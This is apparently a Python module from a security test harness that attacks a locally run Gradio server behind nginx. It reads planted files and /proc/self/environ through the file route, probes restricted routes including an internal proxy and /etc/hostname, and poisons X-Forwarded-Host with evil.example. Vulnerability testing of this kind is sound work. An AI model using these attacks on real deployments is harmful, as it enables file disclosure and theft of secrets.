"""A path before the page, with a real reverse proxy and without: doors that are shut, and that the path opens again."""

from __future__ import annotations

import json
from collections.abc import Iterator
from contextlib import contextmanager

from attacks.attack import attack
from attacks.files import cached_copies, file_routes, get_raw
from attacks.nginx import Proxy, proxying
from attacks.results import Tally
from attacks.serving import CANARY_NAME, DOMAIN, NAMED, PREFIX, ROOTED, Server, Site
from attacks.visits import API, Visit

SIGNS = {
    "GET /gradio_api/deep_link?session_hash=x": "deep_link",
    "GET /monitoring": "Monitoring",
    "GET /monitoring/summary": "Monitoring",
    "GET /monitoring/x": "Monitoring",
    "GET /gradio_api/proxy=http://127.0.0.1:9/": "proxied",
    "GET /gradio_api/vibe-code/": "vibe",
    "GET /gradio_api/file=/etc/hostname": "File not allowed",
    "GET /gradio_api/stream/a/b/1/c.ts": "Segment not found|Stream not found",
    "GET /gradio_api/runs": "gradio_config",
}
"""What Gradio says where a route that nobody needs is open, though it may refuse to do its work."""


@contextmanager
def proxied(site: Site, setup: object = ROOTED) -> Iterator[tuple[Server, Proxy]]:
    """A server below a path, and nginx before it."""
    assert isinstance(setup, type(ROOTED))
    server = site.running(setup)
    with proxying(server, site.new_folder("nginx")) as proxy:
        yield server, proxy


@attack(
    3, "read any file with a root path: a forged kept turn copies it, /footnote/gradio_api/file= gives it", seconds=120
)
def read_with_root_path(site: Site) -> Tally:
    worked, tries = [], 0
    with proxied(site) as (server, proxy):
        ways = {"direct": server.port, "proxy that strips": proxy.strips, "proxy that keeps": proxy.keeps}
        for way, port in ways.items():
            path, word = site.plant(site.outside, ".sqlite3")
            for name, secret in ((str(path), word), ("/proc/self/environ", CANARY_NAME)):
                tries += 1
                if secret in read_file(site, server, name, port):
                    worked.append(f"{name if 'proc' in name else 'a file'} ({way})")
    return Tally(tries, len(worked), ", ".join(worked))


def read_file(site: Site, server: Server, path: str, port: int) -> str:
    """All that comes back when a file is copied by a kept turn and then asked for in all ways; the copy is tried on
    each prefix, because a proxy may strip one."""
    found = ""
    with Visit(server.address, site.new_client()).open() as visitor:
        copies = cached_copies(visitor, path)
    for copy in copies[:1]:
        for route in file_routes(copy, PREFIX):
            found += get_raw(site, server, route, port=port).decode(errors="replace")
    return found


@attack(3, "reach shut doors with a root path: deep_link, monitoring, vibe, proxy, stream, file, runs")
def reach_shut_routes(site: Site) -> Tally:
    worked, tries = [], 0
    with proxied(site) as (server, proxy):
        for port in (server.port, proxy.strips, proxy.keeps):
            for request, signs in SIGNS.items():
                path = request.partition(" ")[2]
                tries += 1
                for route in (PREFIX + path, PREFIX + PREFIX + path, path):
                    text = get_raw(site, server, route, port=port).decode(errors="replace")
                    if is_gradios(text, signs):
                        worked.append(path.removeprefix(API + "/"))
                        break
    return Tally(tries, len(worked), ", ".join(dict.fromkeys(worked)))


def is_gradios(reply: str, signs: str) -> bool:
    """Whether a reply comes from Gradio's own handler, and not from what stands before it."""
    if signs == "deep_link":
        head, _, body = reply.partition("\r\n\r\n")
        return head.startswith("HTTP/1.1 200") or (" 500 " in head and "Internal" in body) or "deep_link" in body
    return any(sign in reply for sign in signs.split("|"))


@attack(15, "poison addresses with X-Forwarded-Host, directly, by name and through nginx")
def poison_host(site: Site) -> Tally:
    worked, tries = [], 0
    evil = {"X-Forwarded-Host": "evil.example", "X-Forwarded-Proto": "https"}

    def look(way: str, visitor: Visit) -> None:
        nonlocal tries
        for path in ("/", "/config", f"{API}/info", "/manifest.json", "/login"):
            tries += 1
            method = "POST" if path == "/login" else "GET"
            response = visitor.http.request(method, visitor.base + path, data={"username": "x", "password": "y"})
            told = response.text + json.dumps(dict(response.headers))
            if "evil.example" in told:
                worked.append(f"{way} {path}")

    with Visit(site.running().address, site.new_client(), headers=evil) as visitor:
        look("direct", visitor)
    with Visit(site.running(NAMED).address, site.new_client(), headers=evil | {"Host": DOMAIN}) as visitor:
        look("named", visitor)
    with (
        proxied(site) as (_, proxy),
        Visit(f"http://127.0.0.1:{proxy.strips}", site.new_client(), prefix=PREFIX, headers=evil) as visitor,
    ):
        look("nginx", visitor)
    return Tally(tries, len(worked), ", ".join(worked))
